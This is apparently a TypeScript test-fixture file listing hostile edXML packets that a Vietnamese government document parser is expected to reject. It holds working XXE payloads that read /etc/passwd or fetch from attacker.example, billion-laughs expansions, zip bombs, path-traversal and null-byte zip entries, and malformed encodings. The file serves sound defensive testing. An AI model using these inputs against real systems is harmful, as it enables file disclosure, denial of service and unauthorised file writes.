import { Buffer } from 'node:buffer'
import type { PacketLimits } from '../../src/engine/envelope/read.ts'
import type { ErrorCode } from '../../src/shared/errors.ts'
import { changed, EXAMPLE_DOCUMENT, EXAMPLE_STATUS, packetWith } from './packets.ts'
import { madeZip } from './zips.ts'

const PROLOG = '<?xml version="1.0" encoding="UTF-8"?>\n'
const QCVN = 'http://www.mic.gov.vn/TBT/QCVN_102_2016'
const PDF = Buffer.from(`%PDF-1.7\n${'nội dung '.repeat(200)}`)

/** The example behind a document type, as a person who means harm would write one. */
function withDoctype(doctype: string, subject = 'x'): string {
  return changed(PROLOG, `${PROLOG}${doctype}\n`).replace(/(<edXML:Subject>)[^<]*/, `$1${subject}`)
}

/** The example without one element, wherever it stands first. */
function without(name: string, packet = EXAMPLE_DOCUMENT): string {
  return changed(new RegExp(`<edXML:${name}>[^]*?</edXML:${name}>`), '', packet)
}

/** The example with one element twice. */
function doubled(name: string, packet = EXAMPLE_DOCUMENT): string {
  const element = new RegExp(`<edXML:${name}[ >][^]*?</edXML:${name}>`).exec(packet)?.[0]
  if (element === undefined) throw new Error(`no ${name}`)
  return changed(element, `${element}${element}`, packet)
}

function utf16(text: string, bigEndian: boolean, mark: boolean): Buffer {
  const bytes = Buffer.from((mark ? '\u{feff}' : '') + text, 'utf16le')
  return bigEndian ? bytes.swap16() : bytes
}

/** A packet whose one file is this zip under the name of a PDF. */
function zipped(...made: Parameters<typeof madeZip>): string {
  return packetWith([{ name: 'a.pdf', content: madeZip(...made) }])
}

const entry = { name: 'a.pdf', content: PDF }
const sound = madeZip([entry])
const many = (count: number, make: (index: number) => string) =>
  Array.from({ length: count }, (_, index) => make(index)).join('')

/** A packet that no reader may take, and how it is to be refused. */
export interface HostilePacket {
  readonly what: string
  readonly packet: string | Uint8Array
  readonly code: ErrorCode
  readonly detail?: string
  /** Smaller limits that it is over, where the real ones would need a packet of many megabytes. */
  readonly limits?: Partial<PacketLimits>
}

const entities: HostilePacket[] = [
  { what: 'an empty document type', packet: withDoctype('<!DOCTYPE edXML>'), code: 'packet/forbidden-xml' },
  {
    what: 'an external document type',
    packet: withDoctype('<!DOCTYPE edXML SYSTEM "file:///etc/passwd">'),
    code: 'packet/forbidden-xml',
  },
  {
    what: 'a public document type',
    packet: withDoctype('<!DOCTYPE edXML PUBLIC "-//X//Y" "http://attacker.example/x.dtd">'),
    code: 'packet/forbidden-xml',
  },
  {
    what: 'an external entity',
    packet: withDoctype('<!DOCTYPE edXML [<!ENTITY x SYSTEM "file:///etc/passwd">]>', '&x;'),
    code: 'packet/forbidden-xml',
  },
  {
    what: 'a parameter entity',
    packet: withDoctype('<!DOCTYPE edXML [<!ENTITY % x SYSTEM "http://attacker.example/"> %x;]>'),
    code: 'packet/forbidden-xml',
  },
  {
    what: 'a billion laughs',
    packet: withDoctype(
      `<!DOCTYPE edXML [<!ENTITY l0 "ha">${many(9, (i) => `<!ENTITY l${String(i + 1)} "${`&l${String(i)};`.repeat(10)}">`)}]>`,
      '&l9;',
    ),
    code: 'packet/forbidden-xml',
  },
  {
    what: 'a quadratic blow-up',
    packet: withDoctype(`<!DOCTYPE edXML [<!ENTITY a "${'a'.repeat(50_000)}">]>`, '&a;'.repeat(5000)),
    code: 'packet/forbidden-xml',
  },
  {
    what: 'an entity without a declaration',
    packet: changed('>Suối Ngọc<', '>&nbsp;<'),
    code: 'packet/forbidden-xml',
  },
  {
    what: 'an entity named like a method',
    packet: changed('>Suối Ngọc<', '>&constructor;<'),
    code: 'packet/forbidden-xml',
  },
  {
    what: 'an entity named like a prototype',
    packet: changed('>Suối Ngọc<', '>&__proto__;<'),
    code: 'packet/forbidden-xml',
  },
  {
    what: 'an entity in an attribute',
    packet: changed('version="1.0">', 'version="&x;">'),
    code: 'packet/forbidden-xml',
  },
  {
    what: 'an entity inside a file',
    packet: changed('JVBERi0=', 'JVBE&x;Ri0='),
    code: 'packet/forbidden-xml',
  },
  {
    what: 'a document type in the middle',
    packet: changed('<edXML:edXMLHeader>', '<!DOCTYPE x><edXML:edXMLHeader>'),
    code: 'packet/forbidden-xml',
  },
  {
    what: 'a document type behind the end',
    packet: `${EXAMPLE_DOCUMENT}<!DOCTYPE x>`,
    code: 'packet/forbidden-xml',
  },
  {
    what: 'a login page instead of a packet',
    packet: '<!DOCTYPE html><html><body>Đăng nhập</body></html>',
    code: 'packet/forbidden-xml',
  },
]

const shapes: HostilePacket[] = [
  { what: 'nothing at all', packet: '', code: 'packet/unreadable' },
  { what: 'a single byte', packet: '<', code: 'packet/unreadable' },
  { what: 'a byte order mark alone', packet: '\u{feff}', code: 'packet/unreadable' },
  { what: 'a prolog alone', packet: PROLOG, code: 'packet/unreadable' },
  {
    what: 'a packet cut in half',
    packet: EXAMPLE_DOCUMENT.slice(0, EXAMPLE_DOCUMENT.length / 2),
    code: 'packet/unreadable',
  },
  {
    what: 'a packet cut inside a file',
    packet: EXAMPLE_DOCUMENT.slice(0, EXAMPLE_DOCUMENT.indexOf('JVBE') + 3),
    code: 'packet/unreadable',
  },
  {
    what: 'a packet cut inside the end tag of a file',
    packet: EXAMPLE_DOCUMENT.slice(0, EXAMPLE_DOCUMENT.indexOf('JVBE') + 9),
    code: 'packet/unreadable',
  },
  {
    what: 'a packet cut before its last letter',
    packet: EXAMPLE_DOCUMENT.trimEnd().slice(0, -1),
    code: 'packet/unreadable',
  },
  {
    what: 'two packets in one',
    packet: EXAMPLE_DOCUMENT + EXAMPLE_DOCUMENT.replace(PROLOG, ''),
    code: 'packet/unreadable',
  },
  { what: 'text behind the packet', packet: `${EXAMPLE_DOCUMENT}xong`, code: 'packet/unreadable' },
  {
    what: 'tags that cross',
    packet: changed('</edXML:Place>', '</edXML:PromulgationInfo>'),
    code: 'packet/unreadable',
  },
  {
    what: 'a prefix without a namespace',
    packet: changed('<edXML:To>', '<zz:To>'),
    code: 'packet/unreadable',
  },
  {
    what: 'an attribute twice',
    packet: changed('version="1.0">', 'version="1.0" version="1.0">'),
    code: 'packet/unreadable',
  },
  { what: 'a bare ampersand', packet: changed('>Suối Ngọc<', '>Suối & Ngọc<'), code: 'packet/unreadable' },
  {
    what: 'a control character',
    packet: changed('>Suối Ngọc<', '>Suối\u{1}Ngọc<'),
    code: 'packet/unreadable',
  },
  {
    what: 'a reference to a control character',
    packet: changed('>Suối Ngọc<', '>Suối&#1;Ngọc<'),
    code: 'packet/unreadable',
  },
  {
    what: 'a reference beyond Unicode',
    packet: changed('>Suối Ngọc<', '>&#x110000;<'),
    code: 'packet/unreadable',
  },
  { what: 'XML 1.1', packet: changed('version="1.0" enc', 'version="1.1" enc'), code: 'packet/unreadable' },
  { what: 'another root', packet: `<edXLM xmlns="${QCVN}"/>`, code: 'packet/unreadable' },
  { what: 'a web page', packet: '<html><body/></html>', code: 'packet/unreadable' },
  {
    what: 'another namespace',
    packet: EXAMPLE_DOCUMENT.replaceAll(QCVN, 'urn:khac'),
    code: 'packet/unreadable',
  },
  { what: 'no namespace', packet: '<edXML><edXMLEnvelope/></edXML>', code: 'packet/unreadable' },
  {
    what: 'words before the prolog',
    packet: `Gói tin:\n${EXAMPLE_DOCUMENT}`,
    code: 'packet/junk-before-start',
  },
  { what: 'a line before the prolog', packet: `\n${EXAMPLE_DOCUMENT}`, code: 'packet/junk-before-start' },
  { what: 'JSON', packet: '{"data":""}', code: 'packet/junk-before-start' },
  { what: 'a zip', packet: madeZip([entry]), code: 'packet/junk-before-start' },
  { what: 'a PDF', packet: PDF, code: 'packet/junk-before-start' },
  {
    what: 'a packet still in base64',
    packet: Buffer.from(EXAMPLE_DOCUMENT).toString('base64'),
    code: 'packet/junk-before-start',
  },
]

const encodings: HostilePacket[] = [
  {
    what: 'UTF-16, little end first',
    packet: utf16(EXAMPLE_DOCUMENT, false, true),
    code: 'packet/wrong-encoding',
  },
  {
    what: 'UTF-16, big end first',
    packet: utf16(EXAMPLE_DOCUMENT, true, true),
    code: 'packet/wrong-encoding',
  },
  {
    what: 'UTF-16 without a mark',
    packet: utf16(EXAMPLE_DOCUMENT, false, false),
    code: 'packet/wrong-encoding',
  },
  {
    what: 'UTF-16 without a mark, big end first',
    packet: utf16(EXAMPLE_DOCUMENT, true, false),
    code: 'packet/wrong-encoding',
  },
  {
    what: 'a claim of UTF-16',
    packet: changed('"UTF-8"', '"UTF-16"'),
    code: 'packet/wrong-encoding',
    detail: 'UTF-16',
  },
  {
    what: 'a claim of windows-1258',
    packet: changed('"UTF-8"', '"windows-1258"'),
    code: 'packet/wrong-encoding',
    detail: 'windows-1258',
  },
  {
    what: 'Latin letters without a claim',
    packet: Buffer.from(changed('>Suối Ngọc<', '>xã Hòa<'), 'latin1'),
    code: 'packet/wrong-encoding',
  },
  {
    what: 'an overlong form',
    packet: Buffer.from(changed('>Suối Ngọc<', '>@@<')).map((byte) => (byte === 0x40 ? 0xc0 : byte)),
    code: 'packet/wrong-encoding',
  },
  {
    what: 'a letter cut at the end',
    packet: Buffer.concat([Buffer.from(EXAMPLE_DOCUMENT), Buffer.from([0xe1, 0xba])]),
    code: 'packet/wrong-encoding',
  },
]

const sizes: HostilePacket[] = [
  {
    what: 'a packet over its limit',
    packet: EXAMPLE_DOCUMENT,
    code: 'packet/too-large',
    detail: 'packet',
    limits: { packetBytes: 5000 },
  },
  {
    what: 'nesting a thousand deep',
    packet: changed('<edXML:To>', `${'<a>'.repeat(1000)}${'</a>'.repeat(1000)}<edXML:To>`),
    code: 'packet/too-large',
    detail: 'depth',
  },
  {
    what: 'sixty thousand elements',
    packet: changed('<edXML:To>', `${'<a/>'.repeat(60_000)}<edXML:To>`),
    code: 'packet/too-large',
    detail: 'elements',
  },
  {
    what: 'a hundred attributes',
    packet: changed('version="1.0">', `version="1.0" ${many(100, (i) => `a${String(i)}="" `)}>`),
    code: 'packet/too-large',
    detail: 'attributes',
  },
  {
    what: 'a text of 300,000 letters',
    packet: changed('>Suối Ngọc<', `>${'a'.repeat(300_000)}<`),
    code: 'packet/too-large',
    detail: 'Place',
  },
  {
    what: 'a text in a thousand pieces',
    packet: changed('>Suối Ngọc<', `>${`${'a'.repeat(300)}<!---->`.repeat(1000)}<`),
    code: 'packet/too-large',
    detail: 'Place',
  },
  {
    what: 'a comment of 7 MB',
    packet: changed('<edXML:To>', `<!--${'a'.repeat(7_000_000)}--><edXML:To>`),
    code: 'packet/too-large',
    detail: 'markup',
  },
  {
    what: 'a comment of 3 MB of brackets',
    packet: changed('<edXML:To>', `<!--${'>'.repeat(3_000_000)}--><edXML:To>`),
    code: 'packet/too-large',
    detail: 'markup',
  },
  {
    what: 'an attribute of 7 MB',
    packet: changed('version="1.0">', `version="${'1'.repeat(7_000_000)}">`),
    code: 'packet/too-large',
    detail: 'markup',
  },
  {
    what: 'a tag name of 7 MB',
    packet: changed('<edXML:To>', `<${'a'.repeat(7_000_000)}/><edXML:To>`),
    code: 'packet/too-large',
    detail: 'markup',
  },
  {
    what: 'base64 where no file belongs',
    packet: changed(
      '>Suối Ngọc<',
      `><edXML:ContentTransferEncoded>${'A'.repeat(300_000)}</edXML:ContentTransferEncoded><`,
    ),
    code: 'packet/too-large',
    detail: 'ContentTransferEncoded',
  },
  {
    what: 'a file over its limit',
    packet: packetWith([{ name: 'a.pdf', content: PDF }]),
    code: 'packet/too-large',
    detail: 'attachment',
    limits: { attachmentBytes: 1000 },
  },
  {
    what: 'files over their limit together',
    packet: packetWith([{ content: PDF }, { content: PDF }]),
    code: 'packet/too-large',
    detail: 'attachments together',
    limits: { unpackedBytes: PDF.length + 10 },
  },
  {
    what: 'too many files',
    packet: packetWith(Array.from({ length: 201 }, () => ({ content: PDF }))),
    code: 'packet/too-large',
    detail: 'attachments',
  },
  {
    what: 'too many references',
    packet: packetWith(
      [],
      Array.from({ length: 201 }, () => ({ name: 'a.pdf' })),
    ),
    code: 'packet/too-large',
    detail: 'Reference',
  },
]

const fields: HostilePacket[] = [
  ...(
    [
      ['From', 'MessageHeader/From'],
      ['OrganId', 'From/OrganId'],
      ['To', 'MessageHeader/To'],
      ['Code', 'MessageHeader/Code'],
      ['CodeNumber', 'Code/CodeNumber'],
      ['CodeNotation', 'Code/CodeNotation'],
      ['PromulgationInfo', 'PromulgationInfo/PromulgationDate'],
      ['PromulgationDate', 'PromulgationInfo/PromulgationDate'],
      ['DocumentType', 'DocumentType/TypeName'],
      ['Subject', 'MessageHeader/Subject'],
      ['DocumentId', 'MessageHeader/DocumentId'],
      ['BussinessDocType', 'Bussiness/BussinessDocType'],
      ['MessageHeader', 'edXMLHeader/MessageHeader'],
      ['edXMLHeader', 'edXMLEnvelope/edXMLHeader'],
      ['ContentTransferEncoded', 'Attachment/ContentTransferEncoded'],
    ] as const
  ).map(([name, detail]): HostilePacket => ({
    what: `no ${name}`,
    packet: without(name),
    code: 'packet/incomplete',
    detail,
  })),
  ...(
    [
      ['From', 'MessageHeader/From'],
      ['StatusCode', 'MessageHeader/StatusCode'],
      ['Timestamp', 'MessageHeader/Timestamp'],
      ['ResponseFor', 'MessageHeader/ResponseFor'],
    ] as const
  ).map(([name, detail]): HostilePacket => ({
    what: `a status without ${name}`,
    packet: without(name, EXAMPLE_STATUS),
    code: 'packet/incomplete',
    detail: name === 'StatusCode' ? 'MessageHeader/To' : detail,
  })),
  {
    what: 'an empty envelope',
    packet: `<edXML xmlns="${QCVN}"/>`,
    code: 'packet/incomplete',
    detail: 'edXML/edXMLEnvelope',
  },
  {
    what: 'an addressee of blanks',
    packet: changed('>H99.07<', '> \n <'),
    code: 'packet/incomplete',
    detail: 'To/OrganId',
  },
  {
    what: 'a promulgation on 30 February',
    packet: changed('>2026/01/15<', '>2026/02/30<'),
    code: 'packet/incomplete',
    detail: 'PromulgationInfo/PromulgationDate',
  },
  {
    what: 'a business type 9',
    packet: changed('<edXML:BussinessDocType>0', '<edXML:BussinessDocType>9'),
    code: 'packet/incomplete',
    detail: 'Bussiness/BussinessDocType',
  },
  {
    what: 'a business type 1e0',
    packet: changed('<edXML:BussinessDocType>0', '<edXML:BussinessDocType>1e0'),
    code: 'packet/incomplete',
    detail: 'Bussiness/BussinessDocType',
  },
  {
    what: 'a receiver type 7',
    packet: changed(
      '<edXML:BussinessDocType>0</edXML:BussinessDocType>',
      '<edXML:BussinessDocType>2</edXML:BussinessDocType><edXML:BussinessDocumentInfo><edXML:ReceiverList><edXML:Receiver><edXML:OrganId>H99</edXML:OrganId><edXML:ReceiverType>7</edXML:ReceiverType></edXML:Receiver></edXML:ReceiverList></edXML:BussinessDocumentInfo>',
    ),
    code: 'packet/incomplete',
    detail: 'Receiver/ReceiverType',
  },
  {
    what: 'a status at 25 o’clock',
    packet: changed('10:05:12', '25:05:12', EXAMPLE_STATUS),
    code: 'packet/incomplete',
    detail: 'MessageHeader/Timestamp',
  },
  {
    what: 'a status that answers nothing',
    packet: changed(/<edXML:Code>[^<]*<\/edXML:Code>[^]*<\/edXML:DocumentId>/, '', EXAMPLE_STATUS),
    code: 'packet/incomplete',
    detail: 'ResponseFor/DocumentId',
  },
  ...[
    'From',
    'DocumentId',
    'Subject',
    'Code',
    'CodeNumber',
    'DueDate',
    'SteeringType',
    'TraceHeaderList',
    'Bussiness',
    'BussinessDocType',
    'MessageHeader',
    'edXMLHeader',
    'edXMLBody',
    'edXMLManifest',
    'edXMLEnvelope',
    'AttachmentName',
    'ContentTransferEncoded',
  ].map((name): HostilePacket => ({
    what: `${name} twice`,
    packet: doubled(name),
    code: 'packet/ambiguous',
  })),
  ...['StatusCode', 'ResponseFor', 'Timestamp'].map((name): HostilePacket => ({
    what: `a status with ${name} twice`,
    packet: doubled(name, EXAMPLE_STATUS),
    code: 'packet/ambiguous',
  })),
  {
    what: 'a document that is also a status',
    packet: changed('<edXML:SteeringType>', '<edXML:StatusCode>03</edXML:StatusCode><edXML:SteeringType>'),
    code: 'packet/ambiguous',
    detail: 'MessageHeader/StatusCode',
  },
  {
    what: 'an agency id in two halves',
    packet: changed(
      '<edXML:OrganId>H99.07</edXML:OrganId>',
      '<edXML:OrganId>H99</edXML:OrganId><edXML:OrganId>.07</edXML:OrganId>',
    ),
    code: 'packet/ambiguous',
    detail: 'To/OrganId',
  },
]

const contents: HostilePacket[] = [
  ...(
    [
      ['a foreign letter', 'JVBE*Ri0='],
      ['the letters of URLs', 'JVBE_Ri0-'],
      ['a zero byte by reference', 'JVBE&#0;Ri0='],
      ['a Vietnamese letter by reference', 'JVBE&#7879;Ri0='],
      ['a tag by reference', 'JVBE&lt;Ri0='],
      ['a missing end', 'JVBERi0'],
      ['a single letter', 'J'],
      ['padding alone', '===='],
      ['too much padding', 'JVBERi0=='],
      ['three marks of padding', 'JV==='],
      ['something behind the padding', 'JVBERi0=JVBE'],
      ['a bracket in CDATA', '<![CDATA[JVBE]Ri0=]]>'],
      ['two brackets in CDATA', '<![CDATA[JVBE]]Ri0=]]>'],
    ] as const
  ).map(([what, encoded]): HostilePacket => ({
    what: `base64 with ${what}`,
    packet: changed('JVBERi0=', encoded),
    code: 'packet/attachment-unreadable',
  })),
  {
    what: 'a file that is noticed to be broken at its end, by its name',
    packet: changed('JVBERi0=', 'JVBERi0'),
    code: 'packet/attachment-unreadable',
    detail: '07-UBND-VP.pdf',
  },
  {
    what: 'a file that is noticed to be broken before its name is sure, by its position',
    packet: packetWith([{ content: PDF }, { encoded: 'JV*=' }]),
    code: 'packet/attachment-unreadable',
    detail: '#2',
  },
  {
    what: 'base64 with a Vietnamese letter',
    packet: changed('JVBERi0=', 'JVBEệRi0='),
    code: 'packet/attachment-unreadable',
  },
  {
    what: 'an element inside a file',
    packet: changed('JVBERi0=', 'JVBE<edXML:a/>Ri0='),
    code: 'packet/unreadable',
  },
  {
    what: 'a reference without an end inside a file',
    packet: changed('JVBERi0=', 'JVBE&AAAAAAAAAAAAAAAA'),
    code: 'packet/unreadable',
  },
  {
    what: 'a comment without an end inside a file',
    packet: changed('JVBERi0=', 'JVBE<!-- Ri0='),
    code: 'packet/unreadable',
  },
  {
    what: 'CDATA without an end inside a file',
    packet: changed('JVBERi0=', '<![CDATA[JVBERi0=').replace(/<\/edXML:ContentTransferEncoded>[^]*/, ''),
    code: 'packet/unreadable',
  },
  {
    what: 'something like CDATA inside a file',
    packet: changed('JVBERi0=', '<![CDATX[JVBE]]>'),
    code: 'packet/unreadable',
  },
]

const zips: HostilePacket[] = [
  {
    what: 'a zip bomb that says its size',
    packet: zipped([{ name: 'a.pdf', content: Buffer.alloc(50_000_000) }]),
    code: 'packet/too-large',
    detail: 'zip',
  },
  {
    what: 'a zip bomb that lies about its size',
    packet: zipped([{ name: 'a.pdf', content: Buffer.alloc(50_000_000), claimedBytes: 900_000 }]),
    code: 'packet/attachment-unreadable',
  },
  {
    what: 'a zip over the limit of a file',
    packet: zipped([{ name: 'a.pdf', content: PDF, method: 0 }]),
    code: 'packet/too-large',
    limits: { attachmentBytes: 1000 },
  },
  {
    what: 'a zip whose content grows over the limit',
    packet: zipped([entry]),
    code: 'packet/too-large',
    detail: 'zip',
    limits: { attachmentBytes: 500 },
  },
  {
    what: 'a zip that says it is shorter',
    packet: zipped([{ ...entry, claimedBytes: 10 }]),
    code: 'packet/attachment-unreadable',
  },
  {
    what: 'a zip that says it is longer',
    packet: zipped([{ ...entry, claimedBytes: PDF.length + 1 }]),
    code: 'packet/attachment-unreadable',
  },
  {
    what: 'a zip with a wrong checksum',
    packet: zipped([{ ...entry, claimedCrc32: 1 }]),
    code: 'packet/attachment-unreadable',
  },
  {
    what: 'an encrypted zip',
    packet: zipped([{ ...entry, encrypted: true }]),
    code: 'packet/attachment-unreadable',
    detail: 'a.pdf',
  },
  {
    what: 'a zip packed by another method',
    packet: zipped([{ ...entry, method: 12 }]),
    code: 'packet/attachment-unreadable',
  },
  {
    what: 'a zip that climbs out of its folder',
    packet: zipped([{ ...entry, name: '../../a.pdf' }]),
    code: 'packet/attachment-unreadable',
  },
  {
    what: 'a zip that climbs out with backslashes',
    packet: zipped([{ ...entry, name: '..\\..\\a.pdf' }]),
    code: 'packet/attachment-unreadable',
  },
  {
    what: 'a zip with an absolute path',
    packet: zipped([{ ...entry, name: '/etc/cron.d/a' }]),
    code: 'packet/attachment-unreadable',
  },
  {
    what: 'a zip with a drive',
    packet: zipped([{ ...entry, name: 'C:\\a.pdf' }]),
    code: 'packet/attachment-unreadable',
  },
  {
    what: 'a zip with a zero byte in the name',
    packet: zipped([{ ...entry, name: 'a.pdf\0.exe' }]),
    code: 'packet/attachment-unreadable',
  },
  {
    what: 'a zip with too many entries',
    packet: zipped(Array.from({ length: 11 }, (_, index) => ({ name: `a${String(index)}`, content: PDF }))),
    code: 'packet/too-large',
    limits: { zipEntries: 10 },
  },
  {
    what: 'a zip that claims more entries than it has',
    packet: zipped([entry], { claimedEntries: 40 }),
    code: 'packet/attachment-unreadable',
  },
  { what: 'a zip in parts', packet: zipped([entry], { disk: 1 }), code: 'packet/attachment-unreadable' },
  {
    what: 'a zip in the large format',
    packet: zipped([entry], { claimedEntries: 0xffff }),
    code: 'packet/attachment-unreadable',
  },
  {
    what: 'a zip whose entry lies outside',
    packet: zipped([{ ...entry, headerOffset: 0x7fffffff }]),
    code: 'packet/attachment-unreadable',
  },
  {
    what: 'a zip whose entry lies in its directory',
    packet: zipped([{ ...entry, headerOffset: 60 }]),
    code: 'packet/attachment-unreadable',
  },
  {
    what: 'a zip cut in half',
    packet: packetWith([{ name: 'a.pdf', content: sound.subarray(0, sound.length / 2) }]),
    code: 'packet/attachment-unreadable',
  },
  {
    what: 'four bytes of a zip',
    packet: packetWith([{ name: 'a.pdf', content: sound.subarray(0, 4) }]),
    code: 'packet/attachment-unreadable',
  },
  {
    what: 'a zip with a damaged middle',
    packet: packetWith([
      {
        name: 'a.pdf',
        content: Buffer.concat([sound.subarray(0, 40), Buffer.alloc(20, 0xff), sound.subarray(60)]),
      },
    ]),
    code: 'packet/attachment-unreadable',
  },
]

/** Every one of them by what is wrong with it. */
export const HOSTILE_PACKETS: readonly (readonly [string, readonly HostilePacket[]])[] = [
  ['entities and document types', entities],
  ['broken and foreign files', shapes],
  ['other encodings', encodings],
  ['sizes', sizes],
  ['missing, wrong and doubled fields', fields],
  ['broken contents', contents],
  ['bad zips', zips],
]
